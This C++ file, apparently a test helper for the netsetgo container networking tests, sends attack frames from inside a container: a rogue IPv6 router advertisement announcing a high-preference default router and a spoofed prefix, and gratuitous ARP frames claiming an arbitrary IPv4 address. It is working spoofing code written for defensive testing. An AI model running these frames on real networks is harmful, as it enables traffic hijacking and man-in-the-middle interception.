// rogue_frames: what a hostile container sends to its bridge, for the netsetgo tests. Run it
// inside the container's network namespace (the tests enter it with nsenter):
//
//   rogue_frames ra IFACE              an IPv6 router advertisement: high-preference default
//                                      router, prefix 2001:db8:bad::/64 for autoconfiguration
//   rogue_frames garp IFACE A.B.C.D    a gratuitous ARP claiming A.B.C.D for IFACE's MAC
//
// Both are whole Ethernet frames on an AF_PACKET socket, so they leave at once: no duplicate
// address detection to wait for, and the source addresses are exactly what an attacker picks.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip6.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <system_error>
#include <vector>

namespace {

using mac = std::array<uint8_t, ETH_ALEN>;

[[noreturn]] void fail(const std::string& what) {
    throw std::system_error(errno, std::system_category(), what);
}

struct interface {
    int index;
    mac address;
};

interface interface_named(int fd, const std::string& name) {
    ifreq request{};
    std::snprintf(request.ifr_name, sizeof request.ifr_name, "%s", name.c_str());
    if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) fail("read the MAC of " + name);
    interface result {};
    std::memcpy(result.address.data(), request.ifr_hwaddr.sa_data, ETH_ALEN);
    result.index = static_cast<int>(if_nametoindex(name.c_str()));
    if (result.index == 0) fail("find " + name);
    return result;
}

template <typename T>
void append(std::vector<uint8_t>& frame, const T& part) {
    const auto* bytes = reinterpret_cast<const uint8_t*>(&part);
    frame.insert(frame.end(), bytes, bytes + sizeof part);
}

void send_frame(int fd, const interface& from, const std::vector<uint8_t>& frame) {
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = from.index;
    to.sll_halen = ETH_ALEN;
    std::memcpy(to.sll_addr, frame.data(), ETH_ALEN);
    if (::sendto(fd, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) !=
        static_cast<ssize_t>(frame.size()))
        fail("send a frame");
}

// The ICMPv6 checksum over the IPv6 pseudo-header and the message (RFC 4443, 2.3).
uint16_t icmpv6_checksum(const in6_addr& source, const in6_addr& destination,
                         const std::vector<uint8_t>& message) {
    std::vector<uint8_t> summed;
    append(summed, source);
    append(summed, destination);
    append(summed, htonl(static_cast<uint32_t>(message.size())));
    append(summed, htonl(IPPROTO_ICMPV6));
    summed.insert(summed.end(), message.begin(), message.end());
    if (summed.size() % 2 != 0) summed.push_back(0);
    uint32_t sum = 0;
    for (size_t i = 0; i < summed.size(); i += 2)
        sum += static_cast<uint32_t>(summed[i] << 8 | summed[i + 1]);
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(static_cast<uint16_t>(~sum));
}

void send_router_advertisement(int fd, const interface& from) {
    // Source: the link-local address made from our MAC (EUI-64), as a real router would use.
    in6_addr source{};
    source.s6_addr[0] = 0xfe;
    source.s6_addr[1] = 0x80;
    const mac& m = from.address;
    const uint8_t eui64[8] = {
        static_cast<uint8_t>(m[0] ^ 2), m[1], m[2], 0xff, 0xfe, m[3], m[4], m[5]};
    std::memcpy(&source.s6_addr[8], eui64, 8);
    in6_addr all_nodes{};
    inet_pton(AF_INET6, "ff02::1", &all_nodes);

    std::vector<uint8_t> message;
    nd_router_advert advert{};
    advert.nd_ra_type = ND_ROUTER_ADVERT;
    advert.nd_ra_curhoplimit = 64;
    advert.nd_ra_flags_reserved = 0x08;  // default router preference: high
    advert.nd_ra_router_lifetime = htons(1800);
    append(message, advert);
    nd_opt_prefix_info prefix{};
    prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
    prefix.nd_opt_pi_len = 4;
    prefix.nd_opt_pi_prefix_len = 64;
    prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
    prefix.nd_opt_pi_valid_time = htonl(86400);
    prefix.nd_opt_pi_preferred_time = htonl(14400);
    inet_pton(AF_INET6, "2001:db8:bad::", &prefix.nd_opt_pi_prefix);
    append(message, prefix);
    const uint8_t source_link_address[8] = {
        ND_OPT_SOURCE_LINKADDR, 1, m[0], m[1], m[2], m[3], m[4], m[5]};
    append(message, source_link_address);
    const uint16_t checksum = icmpv6_checksum(source, all_nodes, message);
    std::memcpy(&message[offsetof(icmp6_hdr, icmp6_cksum)], &checksum, sizeof checksum);

    std::vector<uint8_t> frame;
    append(frame, mac{0x33, 0x33, 0, 0, 0, 1});
    append(frame, from.address);
    append(frame, htons(ETH_P_IPV6));
    ip6_hdr ip{};
    ip.ip6_flow = htonl(6u << 28);
    ip.ip6_plen = htons(static_cast<uint16_t>(message.size()));
    ip.ip6_nxt = IPPROTO_ICMPV6;
    ip.ip6_hlim = 255;  // neighbour discovery is only accepted from the link itself
    ip.ip6_src = source;
    ip.ip6_dst = all_nodes;
    append(frame, ip);
    frame.insert(frame.end(), message.begin(), message.end());
    send_frame(fd, from, frame);
}

void send_gratuitous_arp(int fd, const interface& from, const std::string& claimed) {
    in_addr address{};
    if (inet_pton(AF_INET, claimed.c_str(), &address) != 1)
        throw std::invalid_argument("not an IPv4 address: " + claimed);
    for (const uint16_t operation : {ARPOP_REQUEST, ARPOP_REPLY}) {
        std::vector<uint8_t> frame;
        append(frame, mac{0xff, 0xff, 0xff, 0xff, 0xff, 0xff});
        append(frame, from.address);
        append(frame, htons(ETH_P_ARP));
        ether_arp arp{};
        arp.arp_hrd = htons(ARPHRD_ETHER);
        arp.arp_pro = htons(ETH_P_IP);
        arp.arp_hln = ETH_ALEN;
        arp.arp_pln = 4;
        arp.arp_op = htons(operation);
        std::memcpy(arp.arp_sha, from.address.data(), ETH_ALEN);
        std::memcpy(arp.arp_spa, &address, 4);
        std::memset(arp.arp_tha, operation == ARPOP_REPLY ? 0xff : 0, ETH_ALEN);
        std::memcpy(arp.arp_tpa, &address, 4);
        append(frame, arp);
        send_frame(fd, from, frame);
    }
}

}  // namespace

int main(int argc, char* argv[]) {
    const std::vector<std::string> args(argv + 1, argv + argc);
    const bool ra = args.size() == 2 && args[0] == "ra";
    const bool garp = args.size() == 3 && args[0] == "garp";
    if (!ra && !garp) {
        std::fprintf(stderr, "usage: rogue_frames ra IFACE | garp IFACE A.B.C.D\n");
        return 2;
    }
    try {
        const int fd = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
        if (fd < 0) fail("open a packet socket");
        const interface from = interface_named(fd, args[1]);
        if (ra)
            send_router_advertisement(fd, from);
        else
            send_gratuitous_arp(fd, from, args[2]);
        ::close(fd);
    } catch (const std::exception& error) {
        std::fprintf(stderr, "rogue_frames: %s\n", error.what());
        return 1;
    }
    return 0;
}
